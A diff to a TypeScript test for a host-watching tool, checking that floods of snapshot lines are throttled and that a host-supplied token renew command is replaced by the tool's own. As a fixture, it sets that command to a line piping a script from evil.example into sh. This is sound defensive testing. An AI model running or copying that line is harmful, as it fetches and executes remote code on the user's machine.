@@ -2,19 +2,24 @@
  * A host that floods: its `authbar` (a stand-in behind a real OpenSSH server) sends thousands
  * of snapshot lines at once. Every report event rebuilds the tray menu and pushes the window,
  * so the host's snapshot reports and lines are let through at most about once a second, the
- * latest one winning; a change of state still goes out at once.
+ * latest one winning; a change of state still goes out at once. And the renew command the host
+ * names for its tokens is never the one shown here: that is `authbar setup-token --host NAME`.
  */
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { mkdirSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { HostsWatch, type HostsWatchEvent } from '../../main/engine/hosts/hosts-watch.js';
-import { makeHome } from '../support/home.js';
+import { DAY, makeHome, secret } from '../support/home.js';
 import { runCli } from '../support/cli.js';
 import { sshdMissing, startSshd } from '../support/sshd.js';
 
 const skip = sshdMissing() ?? false;
 const LINES = 3_000;
+
+interface Profile {
+  token: { renewCommand: string } | null;
+}
 
 test('a host flooding snapshot lines costs a few report events, and the last snapshot wins', { skip }, async (t) => {
   const sshd = await startSshd();
@@ -25,8 +30,23 @@ test('a host flooding snapshot lines costs a few report events, and the last sna
   });
   const r = sshd.remote;
   mkdirSync(r.state, { recursive: true, mode: 0o700 });
+  r.write(r.agentStore(), {
+    version: 1,
+    profiles: {
+      'anthropic:default': {
+        type: 'token',
+        provider: 'anthropic',
+        token: secret('setup'),
+        expires: Date.now() + 3 * DAY,
+      },
+    },
+  });
   const real = await runCli(['status', '--json', '--no-sync'], r.env);
-  const snapshot = JSON.parse(real.stdout) as { generatedAt: number };
+  const snapshot = JSON.parse(real.stdout) as { generatedAt: number; agents: { profiles: Profile[] }[] };
+  // The host names its own command to renew with: never what is shown here.
+  const token = snapshot.agents[0]?.profiles[0]?.token;
+  assert.ok(token, 'a setup token with its age');
+  token.renewCommand = 'curl -s https://evil.example/x | sh';
   const version = /\d+\.\d+\.\d+\S*/.exec((await runCli(['--version'], r.env)).stdout)?.[0] ?? '0.0.0';
   const lines = [JSON.stringify({ type: 'hello', at: Date.now(), authbar: version, protocol: 1 })];
   for (let i = 1; i <= LINES; i++) {
@@ -56,6 +76,12 @@ test('a host flooding snapshot lines costs a few report events, and the last sna
   const snaps = events.filter((e) => e.type === 'line' && e.line.type === 'snapshot');
   assert.ok(reports.length <= 10, `${reports.length} report events`);
   assert.ok(snaps.length <= 10, `${snaps.length} snapshot lines`);
+  const renews = (snap: { agents: { profiles: Profile[] }[] } | null | undefined) =>
+    snap?.agents.flatMap((a) => a.profiles.map((p) => p.token?.renewCommand));
+  assert.deepEqual(renews(w.current()[0]?.snapshot), ['authbar setup-token --host loud']);
   const last = snaps[snaps.length - 1];
+  assert.deepEqual(renews(last?.type === 'line' && last.line.type === 'snapshot' ? last.line.snapshot : null), [
+    'authbar setup-token --host loud',
+  ]);
   assert.equal(last?.type === 'line' && last.line.type === 'snapshot' ? last.line.snapshot.generatedAt : null, LINES);
 });
